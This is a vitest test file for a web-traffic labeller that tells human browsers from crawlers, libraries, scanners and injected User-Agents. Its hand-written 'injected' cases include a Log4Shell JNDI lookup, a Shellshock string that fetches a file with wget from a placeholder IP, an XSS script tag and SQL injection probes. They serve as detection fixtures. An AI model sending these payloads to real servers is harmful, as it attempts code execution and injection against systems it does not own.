import { describe, expect, it } from 'vitest';
import {
  agentFamily,
  DEFAULT_LABELLER,
  labelByUserAgent,
  LABELLERS,
  labelV1,
  labelV2,
} from '../../scripts/training/labels.js';

// User-Agents copied from the shared real logs (../shared/data), except where a comment says otherwise.
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.107 Safari/537.36',
  'Mozilla/5.0 (Windows; U; Windows NT 5.1; fr; rv:1.9.0.8) Gecko/2009032609 Firefox/3.0.8',
  'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322; .NET CLR 2.0.50727; ' +
    '.NET CLR 3.0.04506.30; .NET CLR 3.0.04506.648)',
  'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)',
  'Mozilla/5.0 (compatible; Konqueror/3.5; OpenBSD) KHTML/3.5.9 (like Gecko)',
  'Mozilla/5.0 (iPad; CPU OS 7_0_4 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) ' +
    'Version/7.0 Mobile/11B554a Safari/9537.53',
  'Mozilla/5.0 (Linux; Android 4.4.2; Nexus 5 Build/KOT49H) AppleWebKit/537.36 (KHTML, like ' +
    'Gecko) Chrome/32.0.1700.99 Mobile Safari/537.36',
  'Opera/9.80 (X11; Linux x86_64) Presto/2.12.388 Version/12.16',
  'Opera/9.60 (J2ME/MIDP; Opera Mini/4.2.13918/670; U; en) Presto/2.2.0',
  'SAMSUNG-GT-E2232/1.0 Openwave/6.2.3 Profile/MIDP-2.0 Configuration/CLDC-1.1 ' +
    'UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0',
  'UCWEB/2.0 (Java; U; MIDP-2.0; Nokia203/20.37) U2/1.0.0 UCMini/11.5.2.1188 (SpeedMode; Proxy; ' +
    'Android 5.0.2; HTC_Desire_601_dual_sim ) U2/1.0.0 Mobile',
  'Links (2.7; CYGWIN_NT-5.1 1.7.15(0.260/5/3) i686; GNU C 4.5.3; text)',
  'Midori/0.2 (X11; Linux; U; fr-fr) WebKit/531.2+',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36',
  'Instagram 3.0.4 Android (8/2.2.1; 240dpi; 480x800; HTC/verizon_wwe; ADR6400L; mecha; mecha; en_US)',
  // In-app browsers are people; not in the shared logs (written by hand in the apps' published shapes).
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like ' +
    'Gecko) Mobile/15E148 [Pinterest/iOS]',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like ' +
    'Gecko) Mobile/15E148 Snapchat/12.60.0.44 (like Safari/8617.1.17.10.9, panda)',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 ' +
    'Chrome/119.0.6045.163 Mobile Safari/537.36 Flipboard/5.3.2/5401,5.3.2.5401',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like ' +
    'Gecko) Mobile/21B74 [FBAN/FBIOS;FBAV/441.0.0.31.106;FBBV/540007458]',
];

// [User-Agent, the family v2 names]: all labelled human by v1.
const MISSED_BY_V1: [string, string][] = [
  [
    'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534+ (KHTML, like Gecko) BingPreview/1.0b',
    'preview',
  ],
  [
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Web Preview) ' +
      'Chrome/27.0.1453 Safari/537.36',
    'preview',
  ],
  [
    'Mozilla/5.0 (compatible; Ask Jeeves/Teoma; +http://about.ask.com/en/docs/about/webmasters.shtml)',
    'crawler',
  ],
  ['Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)', 'crawler'],
  ['Toata dragostea mea pentru diavola', 'scanner'],
  ['Morfeus Fucking Scanner', 'scanner'],
  ['revolt', 'scanner'],
  [
    'Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, ' +
      'like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36',
    'scanner',
  ],
  [
    'Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)',
    'library',
  ],
  [
    'HTTP_Request2/2.1.1 (http://pear.php.net/package/http_request2) PHP/5.3.2-1ubuntu4.18',
    'library',
  ],
  ['Tornado-Async-Client', 'library'],
  ['fasthttp', 'library'],
  ['Ruby', 'library'],
  ['Mozilla/3.0 (compatible; Indy Library)', 'library'],
  ['Dalvik/1.6.0 (Linux; U; Android 4.1.2; GT-S5282 Build/JZO54K)', 'library'],
  ['Safari/9537.73.11 CFNetwork/673.0.3 Darwin/13.0.0 (x86_64) (MacBookPro8%2C1)', 'library'],
  ['git/2.17.1', 'library'],
  ['UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/', 'feed'],
  ['Tiny Tiny RSS/1.11 (http://tt-rss.org/)', 'feed'],
  ['Feedbin - 1 subscribers', 'feed'],
  [
    'LiveJournal.com (webmaster@livejournal.com; for http://www.livejournal.com/users/cshpsionic/; 8 readers)',
    'feed',
  ],
  ['Xenu Link Sleuth/1.3.8', 'link-checker'],
  ['eZ Publish Link Validator', 'link-checker'],
  ['Mozilla/4.0 (compatible;)', 'declared'],
  ['Mozilla/5.0 (compatible; SiteExplorer/1.0b; +http://siteexplorer.info/)', 'crawler'],
  [
    'Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10.6; en-US; rv:1.9.2) Gecko/20100115 ' +
      'Firefox/3.6 (FlipboardProxy/1.1; +http://flipboard.com/browserproxy)',
    'preview',
  ],
  [
    'User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; rv:14.0) Gecko/20100101 Firefox/14.0.1',
    'injected',
  ],
  [';s:297:\\', 'injected'],
  ['Mozilla/5.0 Gecko/20100115 Firefox/3.6', 'not-a-browser'],
  ['Mozilla/1.22 (compatible; MSIE 2.0d; Windows NT)', 'not-a-browser'],
  ['Mozilla/5.0', 'not-a-browser'],
  ['&as_qdr=all', 'not-a-browser'],
  // Not in the shared logs; the shapes scanners and tools send today (written by hand).
  ['${jndi:ldap://198.51.100.7:1389/a}', 'injected'],
  ['() { :; }; /bin/bash -c "wget http://198.51.100.7/x"', 'injected'],
  ['<script>alert(1)</script>', 'injected'],
  ["Mozilla/5.0' or '1'='1", 'injected'],
  ['Mozilla/5.0 (Windows NT 10.0) AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)', 'injected'],
  ['python-httpx/0.27.0', 'library'],
  ['Python/3.11 aiohttp/3.9.3', 'library'],
  ['node-fetch/1.0 (+https://github.com/bitinn/node-fetch)', 'library'],
  ['axios/1.6.7', 'library'],
  [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ' +
      'Chrome/120.0.0.0 Safari/537.36 Puppeteer',
    'headless',
  ],
  ['jetmon/1.0 (Jetpack Site Uptime Monitor by WordPress.com)', 'monitor'],
  ['Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)', 'monitor'],
];

describe('labellers', () => {
  it('v1 (the old list) still labels as it did: known crawlers, tools and empty User-Agents are bots', () => {
    for (const ua of [
      'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'Mozilla/5.0 (compatible; AhrefsBot/7.0)',
      'curl/7.88.1',
      'python-requests/2.31',
      '',
      'Sogou web spider/4.0',
    ])
      expect(labelV1(ua), ua).toBe('bot');
    for (const [ua] of MISSED_BY_V1) expect(labelV1(ua), ua).toBe('human');
    expect(labelByUserAgent).toBe(labelV1);
  });

  it('v2 keeps every v1 bot a bot', () => {
    for (const ua of [
      'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
      'curl/7.88.1',
      '',
      '   ',
      'Go-http-client/1.1',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36',
    ]) {
      expect(labelV2(ua), ua).toBe('bot');
    }
    expect(agentFamily('')).toBe('empty');
    expect(agentFamily('Go-http-client/1.1')).toBe('known');
  });

  it('v2 names the automation v1 missed, by family', () => {
    for (const [ua, family] of MISSED_BY_V1) {
      expect(agentFamily(ua), ua).toBe(family);
      expect(labelV2(ua), ua).toBe('bot');
    }
  });

  it('v2 leaves real browsers human, old and new, desktop, phone and text', () => {
    for (const ua of BROWSERS) {
      expect(agentFamily(ua), ua).toBe('browser');
      expect(labelV2(ua), ua).toBe('human');
    }
  });

  it('is selectable by name, v2 by default', () => {
    expect(DEFAULT_LABELLER).toBe('v2');
    expect(LABELLERS.v1('Toata dragostea mea pentru diavola')).toBe('human');
    expect(LABELLERS.v2('Toata dragostea mea pentru diavola')).toBe('bot');
  });
});
